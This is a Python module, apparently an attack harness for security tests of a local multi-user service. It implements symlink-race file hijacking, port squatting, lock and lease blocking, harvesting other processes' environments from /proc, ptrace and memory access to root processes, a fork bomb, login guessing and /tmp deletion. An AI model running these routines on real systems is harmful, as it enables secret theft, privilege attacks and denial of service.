"""What attackers keep doing on a machine: ``attacks.py ATTACK SAID [WORD...]``, until SIGTERM.

It is copied onto the machine and run as the attacker. ``SAID`` is the file that it writes its loot
to; the file is there as soon as the attack has begun: what stands before the ``yield`` of each
attack prepares it. Nothing but Python's own library is used.
"""

import ctypes
import fcntl
import http.client
import os
import pty
import re
import resource
import shutil
import signal
import socket
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import closing, suppress
from pathlib import Path
from typing import IO, NoReturn
from urllib.parse import urlencode

AT_FDCWD, RENAME_EXCHANGE = -100, 2
F_SETLEASE, F_WRLCK = 1024, 1
PTRACE_ATTACH = 16
IN_CREATE = 0x100
FORM = "application/x-www-form-urlencoded"
ADDRESSES = ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::1"))
SHARED = ("/tmp", "/var/tmp", "/dev/shm", "/run")
libc = ctypes.CDLL(None, use_errno=True)


def swaps(said: IO[str], target: str, folder: str) -> Iterator[None]:
    """As soon as a temporary file appears in a folder, a link to ``target`` stands in its place."""
    link = f"{folder}/link-that-waits"
    os.symlink(target, link)
    news = libc.inotify_init()
    libc.inotify_add_watch(news, folder.encode(), IN_CREATE)
    yield
    try:
        while True:
            for name in _created(os.read(news, 65536)):
                if ".new" in name:
                    with suppress(OSError):
                        _exchange(f"{folder}/{name}", link)
                        said.write(f"{folder}/{name}\n")
                        os.unlink(link)
                        os.symlink(target, link)
    finally:
        os.unlink(link)


def _created(events: bytes) -> Iterator[str]:
    """The names in what inotify(7) tells."""
    while events:
        length = int.from_bytes(events[12:16], sys.byteorder)
        yield os.fsdecode(events[16 : 16 + length].rstrip(b"\0"))
        events = events[16 + length :]


def flips(said: IO[str], target: str, path: str) -> Iterator[None]:
    """A file and a link to ``target`` change places, as fast as the kernel can do it."""
    other = f"{path}.flips"
    os.symlink(target, other)
    yield
    try:
        while True:
            _exchange(path, other)
    finally:
        if os.path.islink(path):
            _exchange(path, other)
        os.unlink(other)


def haunts(said: IO[str], target: str, *names: str) -> Iterator[None]:
    """In every new folder that it may write to, links to ``target`` wait under ``names``, and
    stand in the place of temporary files."""
    old = {folder for top in SHARED for folder in _folders(top)}
    yield
    while True:
        for folder in {folder for top in SHARED for folder in _folders(top)} - old:
            for name in {*names, *(name for name in _names(folder) if ".new" in name)}:
                path = f"{folder}/{name}"
                with suppress(OSError):
                    if not os.path.islink(path):
                        os.symlink(target, f"{path}.link")
                        os.rename(f"{path}.link", path)
                        said.write(f"{path}\n")


def binds(said: IO[str], *ports: str) -> Iterator[None]:
    """Takes each port as soon as it is free, and writes down what it is told there."""
    yield
    while True:
        for family, address in ADDRESSES:
            for port in ports:
                with suppress(OSError), socket.socket(family) as taken:
                    taken.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                    taken.bind((address, int(port)))
                    taken.listen()
                    said.write(f"bound {port}\n")
                    _listen(taken, said)


def _listen(taken: socket.socket, said: IO[str]) -> None:
    taken.settimeout(1.0)
    with suppress(OSError):
        for _ in range(20):
            client, _ = taken.accept()
            with client:
                client.settimeout(1.0)
                said.write(client.recv(65536).decode(errors="replace"))
                client.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\n{}")


def locks(said: IO[str], *tops: str) -> Iterator[None]:
    """Holds a lock on every lock file, and every folder, that it can open."""
    held = []
    for top in tops:
        for folder, _, names in os.walk(top):
            for path in (folder, *(f"{folder}/{name}" for name in names if "lock" in name.lower())):
                with suppress(OSError):
                    descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
                    fcntl.flock(descriptor, fcntl.LOCK_EX | fcntl.LOCK_NB)
                    held.append(descriptor)
                    said.write(f"{path}\n")
                if len(held) > 900:
                    break
    yield
    _wait()


def leases(said: IO[str], *paths: str) -> Iterator[None]:
    """Who opens a file has to wait until the attacker agrees, and it never does (fcntl(2))."""
    signal.signal(signal.SIGIO, signal.SIG_IGN)
    held = [os.open(path, os.O_RDWR) for path in paths]
    for descriptor in held:
        fcntl.fcntl(descriptor, F_SETLEASE, F_WRLCK)
    yield
    while True:  # the kernel lets them in after a while (/proc/sys/fs/lease-break-time)
        time.sleep(0.1)
        for descriptor in held:
            with suppress(OSError):
                fcntl.fcntl(descriptor, F_SETLEASE, F_WRLCK)


def terminal(said: IO[str], path: str) -> Iterator[None]:
    """A link to a terminal at which nobody types."""
    _, slave = pty.openpty()
    os.symlink(os.ttyname(slave), path)
    yield
    _wait()


def spies(said: IO[str]) -> Iterator[None]:
    """Writes down all arguments and environments of processes that it can read."""
    seen = set()
    yield
    while True:
        for process in Path("/proc").glob("[0-9]*"):
            for name in ("cmdline", "environ"):
                with suppress(OSError):
                    text = (process / name).read_bytes()
                    if process.stat().st_uid != os.getuid() and text not in seen:
                        seen.add(text)
                        said.write(f"{text.decode(errors='replace')}\n")


def harasses(said: IO[str]) -> Iterator[None]:
    """Signals to root's processes, and attempts to trace them and to read their memory."""
    yield
    while True:
        for process in Path("/proc").glob("[0-9]*"):
            with suppress(OSError):
                pid = int(process.name)
                if not _is_roots(process):
                    continue
                done = []
                with suppress(PermissionError):
                    os.kill(pid, signal.SIGSTOP)
                    done.append("stopped")
                if libc.ptrace(PTRACE_ATTACH, pid, 0, 0) == 0:
                    done.append("traced")
                with suppress(PermissionError), (process / "mem").open("r+b"):
                    done.append("read the memory of")
                # One that has become ours meanwhile is ours to stop.
                if done and _is_roots(process):
                    said.write(f"{done} {pid}\n")
        time.sleep(0.05)


def _is_roots(process: Path) -> bool:
    """By its numbers: while it changes them, all that belongs to it in /proc is root's."""
    told = re.search(r"^Uid:(.*)$", (process / "status").read_text(), re.MULTILINE)
    return told is not None and set(told[1].split()) == {"0"}


def watches(said: IO[str]) -> Iterator[None]:
    """Looks for processes of its own account that have a terminal: it could type there."""
    yield
    while True:
        for process in Path("/proc").glob("[0-9]*/stat"):
            with suppress(OSError):
                if process.stat().st_uid != os.getuid():
                    continue  # looked at first: root's own may become one of ours meanwhile
                name, _, told = process.read_text().rpartition(")")
                if (terminal := told.split()[4]) != "0":
                    words = process.with_name("cmdline").read_bytes().replace(b"\0", b" ")
                    said.write(f"{name}): terminal {terminal}, {words.decode()}\n")


def hinders(said: IO[str], *names: str) -> Iterator[None]:
    """Stops every process of its own account that has one of these names."""
    yield
    while True:
        for process in Path("/proc").glob("[0-9]*"):
            with suppress(OSError, ValueError):
                name = (process / "comm").read_text().strip()
                if process.stat().st_uid == os.getuid() and name in names:
                    os.kill(int(process.name), signal.SIGSTOP)
                    said.write(f"{process}\n")


def forks(said: IO[str]) -> Iterator[None]:
    """Forks and ends, without an end: whoever is killed has a child already."""
    resource.setrlimit(resource.RLIMIT_NPROC, (100, 100))
    yield
    if os.fork() == 0:
        for _ in range(6):
            with suppress(OSError):
                os.fork()
        while True:
            with suppress(OSError):
                if os.fork():
                    os._exit(0)
    _wait()


def answers(said: IO[str], path: str) -> Iterator[None]:
    """At the socket ``path`` somebody listens, and never says anything."""
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(path)
        listener.listen()
        yield
        _wait()


def poses(said: IO[str], title: str) -> Iterator[None]:
    """A process without a parent that calls itself something else."""
    if os.fork():
        os._exit(0)
    yield
    os.execv("/bin/sleep", [title, "3600"])


def knocks(said: IO[str], port: str) -> Iterator[None]:
    """Asks to be let in as ann with wrong passwords, without an end."""
    yield
    while True:
        with suppress(OSError, http.client.HTTPException), closing(_hub(port)) as hub:
            hub.request("GET", "/hub/login")
            form = hub.getresponse()
            cookies = [each.partition(";")[0] for each in form.headers.get_all("Set-Cookie", [])]
            token = re.search(rb'name="_xsrf"\s+value="([^"]*)"', form.read())
            words = {"username": "ann", "password": "wrong", "_xsrf": token and token[1]}
            headers = {"Cookie": "; ".join(cookies), "Content-Type": FORM}
            hub.request("POST", "/hub/login", urlencode(words), headers)
            said.write(f"{hub.getresponse().status}\n")


def _hub(port: str) -> http.client.HTTPConnection:
    return http.client.HTTPConnection("127.0.0.1", int(port), timeout=10)


def crowds(said: IO[str], count: str) -> Iterator[None]:
    """So many processes, with some files open each: no more than a computer has room for."""
    for _ in range(int(count)):
        if os.fork() == 0:
            for _ in range(100):
                os.open("/dev/null", os.O_RDONLY)
            _wait()
    yield
    _wait()


def edits(said: IO[str], path: str) -> Iterator[None]:
    """Adds a line to a file whenever there is none of this program's at its end."""
    line = b"# a line of somebody else's\n"
    yield
    while True:
        with suppress(OSError), open(path, "r+b") as file:
            if not file.read().endswith(line):
                file.write(line)
                said.write("edited\n")


def sweeps(said: IO[str], *patterns: str) -> Iterator[None]:
    """Removes what lies below /tmp, as a cleaner that does not look at its age."""
    yield
    while True:
        for pattern in patterns:
            for path in Path("/tmp").glob(pattern):
                shutil.rmtree(path, ignore_errors=True)
                said.write(f"{path}\n")
        time.sleep(0.5)


def _exchange(path: str, other: str) -> None:
    words = (AT_FDCWD, path.encode(), AT_FDCWD, other.encode(), RENAME_EXCHANGE)
    if libc.renameat2(*words):
        raise OSError(ctypes.get_errno(), "renameat2", path)


def _names(folder: str) -> list[str]:
    with suppress(OSError):
        return os.listdir(folder)
    return []


def _folders(top: str) -> list[str]:
    """Those just below that we may write to."""
    paths = [f"{top}/{name}" for name in _names(top)]
    return [path for path in paths if os.path.isdir(path) and os.access(path, os.W_OK)]


def _wait() -> NoReturn:
    while True:
        signal.pause()


def _stop(*_: object) -> NoReturn:
    sys.exit()


ATTACKS: dict[str, Callable[..., Iterator[None]]] = {
    each.__name__: each
    for each in (
        *(swaps, flips, haunts, binds, locks, leases, terminal, spies, harasses),
        *(answers, poses, knocks, crowds, edits, sweeps, watches, hinders, forks),
    )
}


if __name__ == "__main__":
    name, path, *words = sys.argv[1:]
    signal.signal(signal.SIGTERM, _stop)
    with open(f"{path}.part", "w", buffering=1) as loot:
        attack = ATTACKS[name](loot, *words)
        next(attack)
        os.rename(f"{path}.part", path)
        next(attack)
